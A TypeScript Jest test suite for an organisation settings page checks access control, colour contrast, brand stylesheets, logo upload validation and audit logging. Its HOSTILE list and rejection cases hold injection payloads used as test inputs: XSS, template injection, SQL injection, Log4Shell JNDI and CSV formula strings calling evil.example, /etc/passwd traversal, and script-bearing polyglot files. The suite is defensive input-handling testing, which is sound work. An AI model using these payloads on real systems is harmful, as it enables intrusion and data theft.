import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'node-html-parser';
import { eventually } from '../support/eventually.js';
import { runningPlatform, type RunningPlatform } from '../support/running-platform.js';
import { givenOpenRound, type OpenRound } from '../support/steps/given-open-round.js';
import { signIn } from '../support/steps/sign-in.js';
import { tinyPng } from '../support/tiny-png.js';
import { Visit } from '../support/visit.js';

const SETTINGS = '/admin/settings';
const STYLE = /<link rel="stylesheet" href="(\/brand\/[^"]+\.css)">/;
const LOGO = /<img class="logo" src="(\/brand\/[^"]+\.png)" alt="">/;

/** Text that wants to be more than text, or to be read by something else than a person. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</style><style>*{display:none}',
  '};body{display:none}/*',
  '{{organisation}} {{{content}}} {{#each this}}x{{/each}}',
  '{{constructor.constructor "return process"}}',
  '#set page(width: 1pt) #read("/etc/passwd") $ x $',
  '#{1+1} ${process.exit()} <%= 7*7 %> #{7*7}',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|"/C calc"!A0',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<svg/onload=alert(1)>',
  '&lt;b&gt; &amp; &#60;script&#62;',
  "'; drop table survey.organisation; --",
  '\\u003cscript\\u003e \\x3c \\',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd%00.png',
  'Line\r\nBcc: all@example.org',
  'abc\u202eexe.gpj\u202c \u2066hidden\u2069',
  'zero\u200bwidth\ufeff tag\u{e0041}',
  'Z' + '\u0335\u0321\u031b'.repeat(60),
  '\u0007\u001b[2J\u009b31m bell',
  'مرحبا \u200fשלום',
];

describe('the settings of an organisation', () => {
  let on: RunningPlatform;
  let round: OpenRound;
  let hr: Visit;
  const inForce = async () =>
    (
      await on.db.sql<Record<string, string | null>>(
        `select support_contact as contact, paper, brand_colour as colour, cover_text as cover, logo_hash as logo
         from survey.organisation where organisation_id = $1`,
        [round.organisation.id],
      )
    )[0]!;
  const check = async (fields: Record<string, string>, files: Record<string, Uint8Array> = {}) => {
    await hr.get(SETTINGS);
    return hr.upload(SETTINGS, files, fields);
  };
  const save = () => hr.send(SETTINGS, { step: 'save' });

  beforeAll(async () => {
    on = await runningPlatform({ PARALLAX_SWEEP_SECONDS: '3600' });
    round = await givenOpenRound(on, [{ peer: 3 }]);
    hr = await signIn(on, round.organisation.hrEmail);
  }, 30_000);
  afterAll(() => on?.stop());

  it('are HR’s alone', async () => {
    expect((await new Visit(on.url).get(SETTINGS)).status).toBe(401);
    const subject = await signIn(on, round.subjects[0]!.email);
    expect((await subject.get(SETTINGS)).status).toBe(404);
    expect((await subject.get('/home')).html).not.toContain(SETTINGS);
    expect((await hr.get('/home')).html).toContain(`href="${SETTINGS}"`);
  });

  it('show a colour that cannot be read beside the nearest that can, before anything is kept', async () => {
    const before = await inForce();
    const { html } = await check({
      brandColour: 'FFD600',
      paper: 'us-letter',
      supportContact: ' Hanna\tReed ',
    });
    for (const words of [
      'moved so that it can be read',
      'fill="#ffd600"',
      'fill="#816c00"',
      'Least contrast on our pages 1.2 : 1',
      '<bdi>US Letter</bdi>',
      '<bdi>Hanna Reed</bdi>',
    ])
      expect(html).toContain(words);
    expect(STYLE.exec(html)?.[1]).toBe('/brand/1-816c00.css'); // the page looks as it will
    expect(html).not.toContain('style=');
    expect(await inForce()).toEqual(before);
    await hr.send(SETTINGS, { step: 'edit' });
    expect(hr.page.html).toContain('value="FFD600"');
    await hr.upload(SETTINGS, {});
    expect((await save()).html).toContain('The settings are saved.');
    expect(await inForce()).toEqual({
      contact: 'Hanna Reed',
      paper: 'us-letter',
      colour: '#816c00',
      cover: null,
      logo: null,
    });
    expect((await check({})).html).toContain('Everything stays as it is.');
  });

  it('colour every page, of survey and of reporting, with a sheet that carries nothing but a colour', async () => {
    const rater = new Visit(on.url);
    const peer = round.raters.find(({ relationship }) => relationship === 'peer')!;
    const pages = [
      await hr.get('/home'),
      await hr.get('/reports/mine'),
      await rater.get(peer.link),
      await rater.get('/sign-in'),
      await rater.get('/privacy'),
      await rater.get(`/r/${'A'.repeat(43)}`),
    ];
    for (const { html } of pages) {
      expect(STYLE.exec(html)?.[1]).toBe('/brand/1-816c00.css');
      expect(html).toContain('Answer works');
    }
    const sheet = await rater.ask('GET', '/brand/1-816c00.css');
    expect(sheet.status).toBe(200);
    expect(sheet.html).toMatch(
      /^(:root \{ --action: #[0-9a-f]{6}; --action-strong: #[0-9a-f]{6}; \}\n|@media screen and \(prefers-color-scheme: dark\) \{\n|\}\n)+$/,
    );
    expect(Object.fromEntries(sheet.headers)).toMatchObject({
      'content-type': 'text/css; charset=utf-8',
      'cache-control': 'public, max-age=31536000, immutable',
      'x-content-type-options': 'nosniff',
    });
    for (const file of [
      '1-ffd600.css',
      '0-816c00.css',
      '1-816C00.css',
      '1-816c00.css.map',
      '816c00.css',
      'x.css',
      '1-816c00%7D*%7B.css',
      '..%2f..%2fetc%2fpasswd',
      `${'0'.repeat(64)}.png`,
      'x.png',
      '1-816c00.png',
    ])
      expect((await rater.ask('GET', `/brand/${file}`)).status).toBe(404);
  });

  it.each(HOSTILE)('keep %j as a plain line of text', async (text) => {
    const { html, status } = await check({ coverText: text, supportContact: text, brandColour: '' });
    expect(status).toBe(200);
    const shown = parse(html)
      .querySelectorAll('td bdi')
      .map((cell) => cell.text);
    await save();
    const { contact, cover } = await inForce();
    expect(contact).toBe(cover);
    expect(cover).not.toMatch(/[\p{Cc}\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u);
    expect(cover).not.toMatch(/\p{M}{4}/u);
    const page = parse((await hr.get(SETTINGS)).html);
    expect(page.querySelector('#coverText')?.getAttribute('value')).toBe(cover);
    expect(shown).toContain(cover);
    for (const markup of ['script:not([src])', 'style', 'img[src=x]', '[onerror]', '[onfocus]', '[onload]'])
      expect(page.querySelectorAll(markup)).toEqual([]);
    if (!/[^ -~]/.test(text)) expect(cover).toBe(text.trim()); // printable ASCII is never touched
  });

  it.each<[string, Record<string, string>, string]>([
    ['a contact that is too long', { supportContact: 'x'.repeat(201) }, 'supportContact'],
    ['a cover text that is too long', { coverText: '語'.repeat(201) }, 'coverText'],
    ['a paper that nobody sells', { paper: 'a3' }, 'paper'],
    ['a colour in words', { brandColour: 'red' }, 'brandColour'],
    ['a colour with a style behind it', { brandColour: '#fff;}body{display:none}' }, 'brandColour'],
    ['a colour that calls', { brandColour: 'url(//evil.example)' }, 'brandColour'],
  ])('refuse %s at its field, and keep what was entered', async (_, fields, field) => {
    const before = await inForce();
    const page = await check({ ...fields });
    expect(page.status).toBe(400);
    expect(page.html).toContain('<title>Error: Settings');
    expect(page.html).toContain(`<a href="#${field}">`);
    const entered = parse(page.html).querySelector(`#${field}`)?.getAttribute('value');
    if (field !== 'paper') expect(entered).toBe(fields[field]);
    expect(await inForce()).toEqual(before);
  });

  const picture = tinyPng(600, 300);
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  it.each<[string, Uint8Array, RegExp]>([
    ['an SVG under the name of a PNG', Buffer.from(SVG), /neither a PNG nor a JPEG/],
    ['an SVG with a long preamble', Buffer.from(`<?xml version="1.0"?>${' '.repeat(2000)}${SVG}`), /neither/],
    ['a web page', Buffer.from('<!doctype html><script>alert(1)</script>'), /neither/],
    ['a GIF that is a script', Buffer.from('GIF89a=1;alert(1)//'), /neither/],
    [
      'a picture with an archive behind it',
      Buffer.concat([picture, Buffer.from('PK\u0003\u0004')]),
      /hidden behind/,
    ],
    [
      'a picture with a page behind it',
      Buffer.concat([picture, Buffer.from('<script>1</script>')]),
      /hidden behind/,
    ],
    ['half a picture', picture.subarray(0, picture.length / 2), /damaged or incomplete/],
    ['a picture that says it is huge', Buffer.concat([tinyPng(2001, 1)]), /longer than 2,000 pixels/],
    ['more than a megabyte', Buffer.alloc(1024 * 1024 + 1, picture), /larger than 1 MB/],
  ])('refuse %s as a logo', async (_, file, sentence) => {
    const page = await check({}, { logo: file });
    expect(page.status).toBe(400);
    expect(parse(page.html).querySelector('#logo-error')?.text).toMatch(sentence);
    expect((await inForce()).logo).toBeNull();
  });

  it('take a logo by drawing it again, and keep rater pages light with it', async () => {
    const { html } = await check({ brandColour: '#1D5C8A' }, { logo: picture });
    expect(html).toContain('The colour can be read as it is');
    expect(html).toMatch(/A new one, \d+ × \d+ pixels/);
    await save();
    const [kept] = await on.db.sql<{ logo: Buffer; logo_small: Buffer; logo_hash: string }>(
      'select logo, logo_small, logo_hash from survey.organisation where organisation_id = $1',
      [round.organisation.id],
    );
    expect(kept!.logo.equals(picture)).toBe(false);
    expect(kept!.logo.length).toBeLessThan(130_000);
    const rater = new Visit(on.url);
    const page = await rater.get(round.raters[0]!.link);
    const address = LOGO.exec(page.html)![1]!;
    expect(address).toBe(`/brand/${kept!.logo_hash}.png`);
    const logo = await rater.download(address);
    expect(Buffer.from(logo.bytes).equals(kept!.logo_small)).toBe(true);
    expect(Object.fromEntries(logo.headers)).toMatchObject({
      'content-type': 'image/png',
      'cache-control': 'public, max-age=31536000, immutable',
      'x-content-type-options': 'nosniff',
    });
    const loaded = [
      ...page.html.matchAll(/<(?:link|script|img)[^>]* (?:href|src)="(\/[^"]+\.(?:css|js|svg|png))"/g),
    ];
    const sizes = await Promise.all(
      loaded.map(async ([, path]) => gzipSync((await rater.download(path!)).bytes).length),
    );
    const weight = sizes.reduce((sum, size) => sum + size, gzipSync(page.html).length);
    expect(sizes.length).toBeGreaterThanOrEqual(5);
    expect(weight).toBeLessThanOrEqual(30_000);
  });

  it('name the organisation in e-mails by text alone', async () => {
    await signIn(on, round.organisation.hrEmail);
    const mail = await eventually(() => on.mail.to(round.organisation.hrEmail).at(-1)!);
    expect(mail.text).toMatch(/^Answer works a\n/);
    expect(mail.html).toContain('Answer works a');
    expect(mail.html).not.toMatch(/<img|url\(|src=|<link/);
    expect(mail.attachments).toEqual([]);
  });

  it('refuse to overwrite what somebody else has changed since', async () => {
    await check({ coverText: 'Mine' });
    const other = await signIn(on, round.organisation.hrEmail);
    await other.get(SETTINGS);
    await other.upload(SETTINGS, {}, { coverText: 'Theirs' });
    await other.send(SETTINGS, { step: 'save' });
    expect((await save()).status).toBe(409);
    expect((await inForce()).cover).toBe('Theirs');
  });

  it('let go of the logo again, and of everything else', async () => {
    await check({ removeLogo: 'yes', brandColour: '', coverText: '', supportContact: '', paper: 'a4' });
    await save();
    expect(await inForce()).toEqual({ contact: null, paper: 'a4', colour: null, cover: null, logo: null });
    const { html } = await hr.get('/home');
    expect(html).not.toMatch(STYLE);
    expect(html).not.toMatch(LOGO);
  });

  it('stand in the audit log by name, without what they became', async () => {
    const rows = await on.db.sql<{ detail: { changed: string } }>(
      `select detail from survey.audit where event = 'settings-changed' order by at`,
    );
    expect(rows[0]?.detail).toEqual({ changed: 'support contact, paper size, colour' });
    expect(rows.at(-1)?.detail).toEqual({
      changed: 'support contact, paper size, colour, logo, cover text',
    });
    expect(JSON.stringify(rows)).not.toMatch(/alert|Hanna|816c00/);
  });
});
